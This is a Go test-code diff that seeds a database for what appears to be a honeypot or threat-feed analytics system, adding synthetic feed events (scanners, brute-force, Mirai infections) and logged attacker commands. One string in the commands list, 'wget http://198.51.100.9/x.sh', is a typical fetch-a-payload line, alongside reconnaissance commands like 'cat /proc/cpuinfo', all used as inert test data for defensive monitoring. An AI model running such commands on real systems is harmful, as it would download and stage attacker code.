@@ -183,15 +183,69 @@ func seed(t testing.TB, db Querier, scale int) []fact {
 			$6::inet[], $7::text[], $8::int[])`, pt[0], pt[1], pt[2], pt[3], pt[4], pt[5], pt[6], pt[7])
 	require.NoError(t, err)
 
+	// Feed events name no probe; half the feeds give no provider, most events no identifier.
+	classes := [][3]string{
+		{"information-gathering", "scanner", "ssh"}, {"information-gathering", "scanner", ""},
+		{"intrusion-attempts", "brute-force", "telnet"}, {"malicious-code", "infected-system", "mirai"},
+		{"abusive-content", "spam", ""}, {"vulnerable", "vulnerable-system", "open-redis"},
+	}
+	feeds := [][2]string{{"Shadowserver", "Scan-SSH"}, {"Shadowserver", "Drone"}, {"", "warden.dionaea"}, {"CERT.PL", "n6"}}
+	var fe [10][]any
+	for range 600 * scale {
+		a := attackers[pick(len(attackers))]
+		c, fd := classes[pick(len(classes))], feeds[pick(len(feeds))]
+		f := fact{table: derived.FeedEvents, time: when(), count: count(), dims: map[string]string{
+			"taxonomy": c[0], "type": c[1], "feed": fd[1]}}
+		setDims(f.dims, a, 0, "")
+		delete(f.dims, "probe")
+		if c[2] != "" {
+			f.dims["identifier"] = c[2]
+		}
+		if fd[0] != "" {
+			f.dims["provider"] = fd[0]
+		}
+		facts = append(facts, f)
+		for i, v := range []any{f.time, f.count, nullable(f.dims, "provider"), fd[1], c[0], c[1], nullable(f.dims, "identifier"),
+			a.ip, nullable(f.dims, "country"), nullable(f.dims, "asn")} {
+			fe[i] = append(fe[i], v)
+		}
+	}
+	_, err = db.Exec(ctx, `INSERT INTO feed_events (time, raw_count, provider, feed, taxonomy, type, identifier, ip, country, asn)
+		SELECT * FROM unnest($1::timestamptz[], $2::bigint[], $3::text[], $4::text[], $5::text[], $6::text[], $7::text[],
+			$8::inet[], $9::text[], $10::int[])`, fe[0], fe[1], fe[2], fe[3], fe[4], fe[5], fe[6], fe[7], fe[8], fe[9])
+	require.NoError(t, err)
+
+	commands := []string{"uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x.sh", "cd /tmp", "echo ok"}
+	var cm [7][]any
+	for range 400 * scale {
+		f := fact{table: derived.Commands, time: when(), count: count(), dims: map[string]string{"command": commands[pick(len(commands))]}}
+		var ip any
+		if rng.IntN(10) < 9 {
+			a := attackers[pick(len(attackers))]
+			setDims(f.dims, a, 1+pick(6), "")
+			ip = a.ip
+		}
+		facts = append(facts, f)
+		for i, v := range []any{f.time, f.count, f.dims["command"], nullable(f.dims, "probe"), ip, nullable(f.dims, "country"), nullable(f.dims, "asn")} {
+			cm[i] = append(cm[i], v)
+		}
+	}
+	_, err = db.Exec(ctx, `INSERT INTO commands (time, raw_count, command, identity_id, ip, country, asn)
+		SELECT * FROM unnest($1::timestamptz[], $2::bigint[], $3::text[], $4::bigint[], $5::inet[], $6::text[], $7::int[])`,
+		cm[0], cm[1], cm[2], cm[3], cm[4], cm[5], cm[6])
+	require.NoError(t, err)
+
 	fillRollups(t, db)
 	return facts
 }
 
 // rollupDims are the dimension columns of each table, as in migration 000003.
 var rollupDims = map[derived.Family]string{
-	"incidents": "identity_id, trap, action, ip, country, asn",
-	"passwords": "username, password, identity_id, trap, ip, country, asn",
-	"ports":     "port, protocol, identity_id, ip, country, asn",
+	"incidents":   "identity_id, trap, action, ip, country, asn",
+	"passwords":   "username, password, identity_id, trap, ip, country, asn",
+	"ports":       "port, protocol, identity_id, ip, country, asn",
+	"feed_events": "provider, feed, taxonomy, type, identifier, ip, country, asn",
+	"commands":    "command, identity_id, ip, country, asn",
 }
 
 // fillRollups rebuilds every rollup from the precision below it, the narrow incident totals and
@@ -480,6 +534,11 @@ func filterSets(flt query.Filters) []filterSet {
 	} {
 		if len(c.values) > 0 {
 			sets = append(sets, c)
+		}
+	}
+	for _, l := range query.Labels {
+		if v := l.Values(flt); len(v) > 0 {
+			sets = append(sets, filterSet{dim: l.Key, values: v})
 		}
 	}
 	for dim, v := range map[string]string{"password": flt.Password, "username": flt.Username} {
